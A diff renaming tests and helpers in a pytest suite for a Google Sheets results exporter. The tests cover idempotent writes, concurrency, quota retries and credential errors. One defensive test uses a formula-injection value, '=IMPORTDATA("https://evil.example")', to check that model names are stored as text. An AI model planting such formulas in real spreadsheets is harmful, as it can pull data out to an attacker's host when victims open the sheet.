@@ -32,8 +32,8 @@ if not documents():
 HEADS = ["Model Name", "Task Name", "Invocation ID", "Job ID", "Executor"]
 
 
-class Rerouted(HTTPAdapter):
-    """Sends what is meant for Google to the double, and nothing anywhere else."""
+class RedirectAdapter(HTTPAdapter):
+    """Sends requests for Google to the double."""
 
     def __init__(self, url: str) -> None:
         super().__init__()
@@ -51,9 +51,9 @@ class Rerouted(HTTPAdapter):
 def sheet(monkeypatch: pytest.MonkeyPatch) -> Iterator[SheetsDouble]:
     with sheets_double() as double:
 
-        def session_for(found: Credentials) -> requests.Session:
-            session = module._authorized(found)
-            session.mount("https://", Rerouted(double.url))
+        def session_for(credentials: Credentials) -> requests.Session:
+            session = module._authorized(credentials)
+            session.mount("https://", RedirectAdapter(double.url))
             return session
 
         monkeypatch.setattr(module, "GsheetsExporter", lambda: GsheetsExporter(session_for))
@@ -72,7 +72,7 @@ def private_key() -> str:
 
 @pytest.fixture
 def key(sheet: SheetsDouble, private_key: str) -> str:
-    """The text of a service account's key, whose tokens come from the double."""
+    """Return the text of a service account's key whose tokens come from the double."""
     return json.dumps(
         {
             "type": "service_account",
@@ -85,7 +85,7 @@ def key(sheet: SheetsDouble, private_key: str) -> str:
 
 @pytest.fixture(autouse=True)
 def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("HOME", str(tmp_path / "nobody"))
+    monkeypatch.setenv("HOME", str(tmp_path / "empty-home"))
 
 
 @pytest.fixture
@@ -109,14 +109,14 @@ def changes(outcome: ExportOutcome) -> list[Change]:
     return [item.change for item in outcome.items]
 
 
-def rescored(bundle: Bundle, value: float) -> Bundle:
+def with_score(bundle: Bundle, value: float) -> Bundle:
     tasks = list(bundle.results.tasks)
     score = tasks[2].scores[0].model_copy(update={"value": value})
     tasks[2] = tasks[2].model_copy(update={"scores": (score,)})
     return replace(bundle, results=bundle.results.model_copy(update={"tasks": tuple(tasks)}))
 
 
-def test_an_empty_sheet_gets_heads_and_a_row_for_each_job(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_empty_sheet_gets_headers_and_one_row_per_job(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     assert changes(export(bundle, key)) == [Change.CREATED] * 5
     assert sheet.grid[0][:5] == HEADS
     row = sheet.rows()[2]
@@ -128,7 +128,7 @@ def test_an_empty_sheet_gets_heads_and_a_row_for_each_job(bundle: Bundle, sheet:
     assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 1
 
 
-def test_exporting_twice_writes_nothing(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_second_export_writes_nothing(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     export(bundle, key)
     before = [list(row) for row in sheet.grid]
     sheet.calls.clear()
@@ -137,31 +137,29 @@ def test_exporting_twice_writes_nothing(bundle: Bundle, sheet: SheetsDouble, key
     assert sheet.grid == before
 
 
-def test_only_the_cells_that_changed_are_written(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_only_changed_cells_are_written(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     export(bundle, key)
-    assert changes(export(rescored(bundle, 0.5), key)).count(Change.UPDATED) == 1
+    assert changes(export(with_score(bundle, 0.5), key)).count(Change.UPDATED) == 1
     (request,) = [request for request in sheet.bodies[-1]["requests"] if "updateCells" in request]
     assert request["updateCells"]["rows"] == [{"values": [{"userEnteredValue": {"numberValue": 0.5}}]}]
     assert sheet.rows()[2]["exact_match"] == 0.5
 
 
-def test_people_s_columns_and_order_are_kept(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_added_columns_and_order_of_rows_are_kept(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     export(bundle, key)
-    # NOTE: somebody puts a column of notes in front, another head over nothing, and turns the rows round.
+    # NOTE: a user adds a column on each side and reverses the rows.
     heads, *rows = sheet.grid
     (tab,) = sheet.tabs
     tab.grid = [["Notes", *heads, "Owner"]] + [[f"note {n}", *row, "ann"] for n, row in enumerate(reversed(rows))]
     tab.columns += 2
     before = {row["Job ID"]: (row["Notes"], row["Owner"]) for row in sheet.rows()}
-    export(rescored(bundle, 0.5), key)
+    export(with_score(bundle, 0.5), key)
     assert {row["Job ID"]: (row["Notes"], row["Owner"]) for row in sheet.rows()} == before
     assert next(row for row in sheet.rows() if row["Task Name"] == "gsm8k")["exact_match"] == 0.5
     assert len(sheet.grid) == 6
 
 
-def test_a_new_invocation_is_added_below_and_new_metrics_to_the_right(
-    bundle: Bundle, sheet: SheetsDouble, key: str
-) -> None:
+def test_new_invocation_adds_rows_below_and_columns_on_the_right(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     export(bundle, key)
     width = len(sheet.grid[0])
     task = bundle.results.tasks[0]
@@ -175,7 +173,7 @@ def test_a_new_invocation_is_added_below_and_new_metrics_to_the_right(
     assert len(sheet.grid) == 7
 
 
-def test_a_model_called_like_a_formula_is_text(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_formulas_in_names_are_text(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     evil = '=IMPORTDATA("https://evil.example")'
     task = bundle.results.tasks[0].model_copy(update={"model": evil})
     export(replace(bundle, results=bundle.results.model_copy(update={"tasks": (task,)})), key)
@@ -191,13 +189,13 @@ def _cells(body: dict[str, Any]) -> Iterator[dict[str, Any]]:
                 yield from row["values"]
 
 
-def test_metrics_are_filtered(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_log_metrics_filters_columns(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     export(bundle, key, log_metrics=["gsm8k.exact_match"])
     assert [row.get("exact_match") for row in sheet.rows()] == ["", "", 0.741, "", ""]
 
 
 @pytest.mark.parametrize(("headers", "expected"), [({"Retry-After": "33"}, 33.0), ({}, 20.0)])
-def test_quota_is_respected(
+def test_exhausted_quota_delays_the_retry(
     bundle: Bundle, sheet: SheetsDouble, key: str, headers: dict[str, str], expected: float
 ) -> None:
     sheet.failures = [(429, headers), (429, headers)]
@@ -207,7 +205,7 @@ def test_quota_is_respected(
     assert len(sheet.grid) == 6
 
 
-def test_an_answer_that_was_lost_does_not_double_rows(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_lost_response_does_not_duplicate_rows(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     sheet.lost = ["sheets.spreadsheets.batchUpdate"]
     assert export(bundle, key).complete
     assert len(sheet.grid) == 6
@@ -215,35 +213,35 @@ def test_an_answer_that_was_lost_does_not_double_rows(bundle: Bundle, sheet: She
 
 
 @pytest.mark.parametrize(
-    ("options", "failure", "said"),
+    ("options", "failure", "message"),
     [
         ({"spreadsheet_id": "other"}, None, "no such Google sheet"),
         ({}, 403, "share the sheet with robot@project.example"),
         ({}, 400, "Google Sheets rejected the request"),
     ],
 )
-def test_refusals_say_what_to_do(
-    bundle: Bundle, sheet: SheetsDouble, key: str, options: dict[str, Any], failure: int | None, said: str
+def test_rejected_requests_are_reported_with_a_fix(
+    bundle: Bundle, sheet: SheetsDouble, key: str, options: dict[str, Any], failure: int | None, message: str
 ) -> None:
     sheet.failures = [(failure, {})] if failure else []
     outcome = export(bundle, key, **options)
     assert not outcome.complete
-    assert said in str(outcome.items[0].problem)
+    assert message in str(outcome.items[0].problem)
 
 
-def test_a_sheet_is_found_by_its_title(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_spreadsheet_is_found_by_title(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     assert export(bundle, key, spreadsheet_id=None, spreadsheet_name="Nightly").complete
     assert len(sheet.grid) == 6
 
 
-def test_a_tab_that_is_not_there_is_made_once(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_missing_sheet_is_created_once(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     assert changes(export(bundle, key, worksheet="Gate's own")) == [Change.CREATED] * 5
     assert changes(export(bundle, key, worksheet="Gate's own")) == [Change.UNCHANGED] * 5
     assert [(tab.title, len(tab.grid)) for tab in sheet.tabs] == [("Sheet1", 0), ("Gate's own", 6)]
     assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 1
 
 
-def test_a_sheet_that_is_not_there_is_made_and_shared(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_missing_spreadsheet_is_created_and_shared(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     options: dict[str, Any] = {"spreadsheet_id": None, "spreadsheet_name": "Other", "share_with": ["ann@e.example"]}
     outcome = export(bundle, key, **options)
     assert changes(outcome) == [Change.CREATED] * 5
@@ -253,7 +251,7 @@ def test_a_sheet_that_is_not_there_is_made_and_shared(bundle: Bundle, sheet: She
     assert sheet.calls.count("sheets.spreadsheets.create") == 1
 
 
-def test_the_launcher_s_own_sheet_is_the_default(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+def test_default_spreadsheet_is_that_of_the_launcher(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
     sheet.title = "NeMo Evaluator Launcher Results"
     assert changes(export(bundle, key, spreadsheet_id=None)) == [Change.CREATED] * 5
     assert {"Model Name", "Harness", "Task Name", "Executor", "Container", "Invocation ID", "Job ID"} <= set(
@@ -261,8 +259,8 @@ def test_the_launcher_s_own_sheet_is_the_default(bundle: Bundle, sheet: SheetsDo
     )
 
 
-def renamed(bundle: Bundle, number: int) -> Bundle:
-    """Return an invocation of its own with a metric of its own."""
+def with_own_metric(bundle: Bundle, number: int) -> Bundle:
+    """Return another invocation with its own metric."""
     task = bundle.results.tasks[0]
     score = task.scores[0].model_copy(update={"metric": f"metric{number}", "value": number / 10})
     task = task.model_copy(update={"job_id": f"{number:016x}.0", "scores": (score,)})
@@ -270,41 +268,41 @@ def renamed(bundle: Bundle, number: int) -> Bundle:
     return replace(bundle, results=results)
 
 
-def at_once(exports: list[tuple[Bundle, str]]) -> list[ExportOutcome]:
-    """Run exports in as many threads, all let go at one moment."""
-    gate = threading.Barrier(len(exports))
+def export_concurrently(exports: list[tuple[Bundle, str]]) -> list[ExportOutcome]:
+    """Run each export in a thread of its own, all started at the same time."""
+    barrier = threading.Barrier(len(exports))
 
-    def one(pair: tuple[Bundle, str]) -> ExportOutcome:
-        gate.wait(30)
+    def run(pair: tuple[Bundle, str]) -> ExportOutcome:
+        barrier.wait(30)
         return export(*pair)
 
     with ThreadPoolExecutor(len(exports)) as pool:
-        return list(pool.map(one, exports))
+        return list(pool.map(run, exports))
 
 
-def test_the_same_results_from_several_exports_at_once_are_there_once(
+def test_concurrent_exports_of_equal_results_add_each_row_once(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    sheet.barrier = threading.Barrier(5)
+    effects = [change for outcome in export_concurrently([(bundle, key)] * 5) for change in changes(outcome)]
+    assert (effects.count(Change.CREATED), effects.count(Change.UNCHANGED)) == (5, 20)
+    assert len(sheet.grid) == 6
+    assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 5, "each export has read before any has written"
+
+
+def test_concurrent_exports_of_different_metrics_keep_their_columns(
     bundle: Bundle, sheet: SheetsDouble, key: str
 ) -> None:
-    sheet.meeting = threading.Barrier(5)
-    found = [change for outcome in at_once([(bundle, key)] * 5) for change in changes(outcome)]
-    assert (found.count(Change.CREATED), found.count(Change.UNCHANGED)) == (5, 20)
-    assert len(sheet.grid) == 6
-    assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 5, "each tried to write before it saw the others"
-
-
-def test_different_metrics_at_once_keep_their_own_columns(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
-    sheet.meeting = threading.Barrier(5)
-    at_once([(renamed(bundle, number), key) for number in range(1, 6)])
+    sheet.barrier = threading.Barrier(5)
+    export_concurrently([(with_own_metric(bundle, number), key) for number in range(1, 6)])
     assert len(sheet.rows()) == 5
     for row in sheet.rows():
         number = int(row["Invocation ID"], 16)
-        held = {name: value for name, value in row.items() if re.fullmatch(r"metric\d", name) and value != ""}
-        assert held == {f"metric{number}": number / 10}
+        values = {name: value for name, value in row.items() if re.fullmatch(r"metric\d", name) and value != ""}
+        assert values == {f"metric{number}": number / 10}
 
 
 @pytest.mark.usefixtures("sheet")
-def test_key_of_a_user_and_of_a_client_that_a_user_authorised(bundle: Bundle, tmp_path: Path) -> None:
-    # NOTE: a token that still holds: Google's library knows only Google's own address to renew one of a user.
+def test_credentials_of_a_user_and_of_an_authorized_client(bundle: Bundle, tmp_path: Path) -> None:
+    # NOTE: the token has not expired, since Google's library refreshes tokens of users only at Google itself.
     user = {"client_id": "c", "client_secret": "s3cret", "refresh_token": "r"}
     user |= {"token": "t", "expiry": "2999-01-01T00:00:00Z"}
     client = tmp_path / "credentials.json"
@@ -318,7 +316,9 @@ def test_key_of_a_user_and_of_a_client_that_a_user_authorised(bundle: Bundle, tm
     assert export_bundles([bundle], "gsheets", options, {}).complete
 
 
-def test_key_from_a_file_and_from_a_mounted_one(bundle: Bundle, sheet: SheetsDouble, key: str, tmp_path: Path) -> None:
+def test_key_is_read_from_a_file_and_from_a_mounted_secret(
+    bundle: Bundle, sheet: SheetsDouble, key: str, tmp_path: Path
+) -> None:
     file = tmp_path / "key.json"
     file.write_text(key)
     options = {"spreadsheet_id": "S1"}
@@ -338,7 +338,7 @@ def test_key_from_a_file_and_from_a_mounted_one(bundle: Bundle, sheet: SheetsDou
         ({"spreadsheet_id": "S1", "service_account_file": "/nowhere"}, {}, "cannot read the Google credentials"),
     ],
 )
-def test_mistakes_are_told_before_anything_is_sent(
+def test_invalid_credentials_are_reported_before_any_request(
     bundle: Bundle, options: dict[str, str], environ: dict[str, str], message: str
 ) -> None:
     with pytest.raises(NelActionError, match=message) as caught:
@@ -347,7 +347,7 @@ def test_mistakes_are_told_before_anything_is_sent(
     assert caught.value.exit_code == 2
 
 
-def test_half_a_key_is_told_without_its_text(bundle: Bundle, sheet: SheetsDouble) -> None:
+def test_incomplete_key_is_reported_without_its_text(bundle: Bundle, sheet: SheetsDouble) -> None:
     outcome = export(bundle, json.dumps({"type": "service_account", "private_key": "s3cret"}))
     assert "incomplete Google credentials" in str(outcome.items[0].problem)
     assert "s3cret" not in str(outcome.items[0].problem)
